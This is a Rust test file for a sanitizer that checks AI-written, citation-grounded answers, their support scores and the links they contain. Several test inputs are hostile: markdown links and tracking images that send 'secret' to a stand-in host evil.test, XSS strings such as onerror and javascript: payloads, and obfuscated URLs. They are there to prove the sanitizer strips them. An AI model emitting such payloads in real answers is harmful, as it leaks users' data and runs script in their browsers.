//! Tests of whole replies.

pub(crate) use super::urls::tests::sources;
use super::*;
use domain::summary::SourceMode;
use proptest::prelude::*;
use testkit::injections::openings;

const ELBE: &str = "The Elbe rose by nine metres in August 2002. Dresden was flooded.";
const RHINE: &str = "The Rhine is 1233 kilometres long. It flows through six countries of Europe.";

fn two() -> Vec<PromptSource> {
    sources(&[("https://news.example.org/elbe", ELBE), ("https://atlas.example.org/rhine#map", RHINE)])
}

#[test]
fn a_good_answer_stays_as_it_is() {
    let written = "The Elbe rose by nine metres in August 2002 [1].\n\n- The Rhine is 1233 kilometres long [2].\n\n\
        ```follow-ups\n- How long is the Elbe?\n```\n";
    let checked = check(written, &two());
    assert_eq!(
        checked.body,
        "The Elbe rose by nine metres in August 2002 [1].\n\n- The Rhine is 1233 kilometres long [2]."
    );
    assert_eq!(checked.follow_ups, ["How long is the Elbe?"]);
    assert_eq!((checked.grounded, checked.warnings.len()), (Some(1.0), 0));
    assert_eq!(checked.sentences.len(), 2);
    assert_eq!(checked.sentences[1].text, "The Rhine is 1233 kilometres long [2].");
    assert_eq!(checked.sentences[1].cites, [2]);
    let first = &checked.sources[0];
    assert_eq!((first.n, first.cited, first.mode), (1, true, SourceMode::Page));
    assert_eq!(first.quote, "The Elbe rose by nine metres in August 2002.");
    assert_eq!(
        first.url,
        "https://news.example.org/elbe#:~:text=The%20Elbe%20rose%20by,metres%20in%20August%202002%2E"
    );
    // A fragment of the page itself is kept.
    assert_eq!(checked.sources[1].url, "https://atlas.example.org/rhine#map");
}

#[test]
fn doubtful_answers_get_a_warning() {
    let written =
        "The Elbe rose by nine metres in August 2002 [1]. The mayor fled to Mars [1]. Cheese is blue.";
    let checked = check(written, &two());
    let supported: Vec<bool> = checked.sentences.iter().map(|one| one.support >= SUPPORT_MIN).collect();
    assert_eq!(supported, [true, false, false]);
    assert_eq!(checked.sentences[2].support, 0.0);
    assert_eq!(checked.grounded, Some(0.3333));
    assert!(
        checked.warnings[0].starts_with("The cited sources support only 1 of 3 sentences"),
        "{:?}",
        checked.warnings
    );
    let cited: Vec<bool> = checked.sources.iter().map(|one| one.cited).collect();
    assert_eq!(cited, [true, false]);
    assert_eq!(checked.sources[1].quote, "");
    let nothing = check("", &two());
    assert_eq!((nothing.body.as_str(), nothing.grounded, nothing.warnings.len()), ("", None, 0));
}

#[test]
fn who_finds_nothing_and_says_so_is_not_doubted() {
    for (written, body, sentences, warnings) in [
        ("[no answer]\nThe sources do not name the mayor.", "The sources do not name the mayor.", 0, 0),
        ("[no answer]", not_found::TEXT, 0, 0),
        (
            "[no answer]\nThe mayor is not named. The Elbe rose by nine metres in August 2002 [1].",
            "The mayor is not named. The Elbe rose by nine metres in August 2002 [1].",
            1,
            0,
        ),
        // Further claims without a source are still checked.
        (
            "[no answer]\nNo mayor. None at all. He fled to Mars. Cheese is blue.",
            "No mayor. None at all. He fled to Mars. Cheese is blue.",
            2,
            1,
        ),
    ] {
        let checked = check(written, &two());
        assert_eq!((checked.body.as_str(), checked.not_found), (body, true), "{written}");
        assert_eq!((checked.sentences.len(), checked.warnings.len()), (sentences, warnings), "{checked:?}");
    }
    assert_eq!(sanitized_text("[no answer]\nNothing. ", &two()), "Nothing.");
    assert_eq!(sanitized_text("[no answer]", &two()), "", "nothing of ours is emitted before the end");
    let plain = check("The sources do not name the mayor.", &two());
    assert_eq!((plain.not_found, plain.warnings.len()), (false, 1));
}

#[test]
fn nothing_of_a_text_can_be_opened() {
    for (written, expected) in [
        ("See [the report](https://news.example.org/elbe \"x\").", "See the report [1]."),
        ("See [here](https://evil.test/?q=secret).", "See here."),
        ("See [1](https://evil.test/).", "See [1]."),
        ("![pixel](https://evil.test/p.png?d=secret) done", "pixel done"),
        ("[![a](https://evil.test/p)](https://evil.test/x)", "a"),
        ("![a][p] [text][q]\n[p]: https://evil.test/p\n[q]: <https://evil.test/q>", "a text"),
        ("[q]: https://evil.test/q", ""),
        ("[a\nb]: /svc/logout", "[a\nb] : /svc/logout"),
        ("[a]\n(https://evil.test)", "[a]\n((address removed))"),
        (
            "<https://evil.test/x> <a href=\"https://evil.test\">click</a> <img src=x onerror=alert(1)>",
            "(address removed) click",
        ),
        ("<script>alert(1)</script> <!-- hidden --> <svg/onload=x>", "alert(1)"),
        ("Use Vec<T> if a < b.", "Use Vec‹T> if a < b."),
        ("&lt;img src=x&gt; &#104;ttps://evil.test &amp;lt;b&gt;", "(address removed)"),
        (
            "https\\://evil.test w&#119;w.evil.test ww\u{200b}w.evil.test",
            "(address removed) (address removed) (address removed)",
        ),
        ("www[9].evil.test", "(address removed)"),
        ("javascript:alert(1) [x](javascript:alert(1)) [y](data:text/html,z)", "(address removed)) x y"),
        ("&colon; &sol; &unknown;", ": / & unknown;"),
        ("a\r\nb\u{2028}c\0d", "a\nb\ncd"),
        ("Sure.\n\n\n\nYes.", "Sure.\n\nYes."),
        ("```\na[0](x) [7]\n```", "```\na[0] (x) [7]\n```"),
        ("It is so [7].", "It is so."),
    ] {
        let checked = check(written, &two());
        assert_eq!(checked.body, expected, "{written}");
        assert_eq!(sanitized_text(written, &two()), checked.body);
        assert_eq!(openings(&checked.body), Vec::<String>::new(), "{written}");
    }
    let warned = check("![a](https://evil.test) [b](https://evil.test) [9]", &two()).warnings;
    for part in ["Links", "Images", "Citations"] {
        assert!(warned.iter().any(|warning| warning.starts_with(part)), "{part}: {warned:?}");
    }
}

#[test]
fn addresses_that_run_something_are_no_sources() {
    let texts: Vec<(&str, &str)> = [
        "javascript:alert(1)",
        " java\nscript:alert(1)",
        "data:text/html,x",
        "https://a.example/",
        "file:///a",
    ]
    .into_iter()
    .map(|url| (url, ELBE))
    .collect();
    let urls: Vec<String> = check("x", &sources(&texts)).sources.into_iter().map(|one| one.url).collect();
    assert_eq!(urls, ["", "", "", "https://a.example/", "file:///a"]);
}

#[test]
fn long_texts_are_cut() {
    let long = "é".repeat(WRITTEN_BYTES_MAX);
    assert!(check(&long, &two()).body.len() <= WRITTEN_BYTES_MAX);
}

proptest! {
    #[test]
    fn whatever_is_written_nothing_can_be_opened(
        parts in prop::collection::vec(
            prop_oneof![
                Just("https://"), Just("evil.test/x?y=z"), Just("](") , Just("["), Just("]"), Just("!["), Just(")"), Just("("),
                Just("<"), Just(">"), Just("<a href="), Just("<img src="), Just("&lt;"), Just("&#60;"), Just("&amp;"), Just("\\"),
                Just("www."), Just("javascript:"), Just("data:"), Just("[1]"), Just("[9]"), Just("【2】"), Just("\n"), Just(" "),
                Just("`"), Just("```"), Just("]: "), Just("/"), Just(":"), Just("//"), Just("\u{200b}"), Just("w"), Just("."),
                Just("https://news.example.org/elbe"), Just("<!--"), Just("-->"), Just("- "), Just("It rose. "), Just("h"),
                Just("ttps"), Just("#"), Just("follow-ups"), Just("mailto:a@b.test"), Just("&colon;"), Just("\r"), Just("<br>"),
            ],
            0..40,
        ),
        any in "\\PC{0,20}",
    ) {
        let written = format!("{}{any}", parts.concat());
        let checked = check(&written, &two());
        prop_assert_eq!(openings(&checked.body), Vec::<String>::new(), "{:?} became {:?}", written, checked.body);
        for one in &checked.follow_ups {
            prop_assert_eq!(openings(one), Vec::<String>::new());
        }
        prop_assert!(checked.grounded.is_none_or(|share| (0.0..=1.0).contains(&share)));
        prop_assert!(checked.sentences.iter().flat_map(|one| &one.cites).all(|n| (1..=2).contains(n)));
        prop_assert!(checked.sources.iter().all(|one| one.url.contains(".example.org/")));
    }
}
